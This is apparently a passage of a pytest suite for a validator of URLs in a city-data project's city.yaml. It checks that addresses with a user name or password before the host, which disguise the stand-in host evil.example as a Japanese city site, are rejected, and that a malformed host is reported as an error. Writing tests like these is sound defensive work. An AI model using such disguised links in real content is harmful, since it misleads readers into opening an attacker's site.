    text = (city / "city.yaml").read_text(encoding="utf-8")
    text = text.replace("source:\n", f"source:\n  url: '{url}'\n", 1)
    (city / "city.yaml").write_text(text, encoding="utf-8")
    problem = only(errors(city), "bad_url")
    assert (problem.file, problem.column, problem.value) == ("city.yaml", "source.url", url)
    assert "https://" in problem.message


@pytest.mark.parametrize(
    ("key", "url"),
    [
        ("source.url", "https://www.city.higashiyamato.lg.jp@evil.example/"),
        ("source.url", "HTTP://user:password@evil.example/plan.pdf"),
        ("source.url", "https://@evil.example/"),
        ("publication.licence_url", "https://creativecommons.org@evil.example/by/4.0/"),
    ],
)
def test_city_yaml_links_name_no_user_before_the_host(city: Path, key: str, url: str) -> None:
    """``https://www.city….lg.jp@evil.example/`` shows the city's host to a reader but opens
    evil.example: an address with a user name or password is refused, with its file and key."""
    block, name = key.split(".")
    text = (city / "city.yaml").read_text(encoding="utf-8")
    text = text.replace(f"{block}:\n", f"{block}:\n  {name}: '{url}'\n", 1)
    (city / "city.yaml").write_text(text, encoding="utf-8")
    problem = only(errors(city), "bad_url")
    assert (problem.file, problem.column, problem.value) == ("city.yaml", key, url)
    assert "「evil.example」" in problem.message and "ユーザー名やパスワード" in problem.message
    assert not limits.is_web_url(url)


def test_a_malformed_host_is_a_problem_not_a_traceback(city: Path) -> None:
    text = (city / "city.yaml").read_text(encoding="utf-8")
    (city / "city.yaml").write_text(text.replace("source:\n", "source:\n  url: https://[x/\n", 1))
    problem = only(errors(city), "bad_url")
    assert (problem.column, problem.value) == ("source.url", "https://[x/")


def test_an_at_sign_after_the_host_is_allowed(city: Path) -> None:
    url = "https://www.city.example.lg.jp/docs/plan@2024.pdf?by=a@b#c@d"
    text = (city / "city.yaml").read_text(encoding="utf-8")
    (city / "city.yaml").write_text(text.replace("source:\n", f"source:\n  url: '{url}'\n", 1))
    assert errors(city) == []
    assert load_city(city).source["url"] == url


def test_city_yaml_web_addresses_are_kept(city: Path) -> None:
    text = (city / "city.yaml").read_text(encoding="utf-8")
    text = text.replace("source:\n", "source:\n  url: https://www.city.example.lg.jp/a?b=1\n", 1)
    (city / "city.yaml").write_text(text, encoding="utf-8")
    assert errors(city) == []
    assert load_city(city).source["url"] == "https://www.city.example.lg.jp/a?b=1"
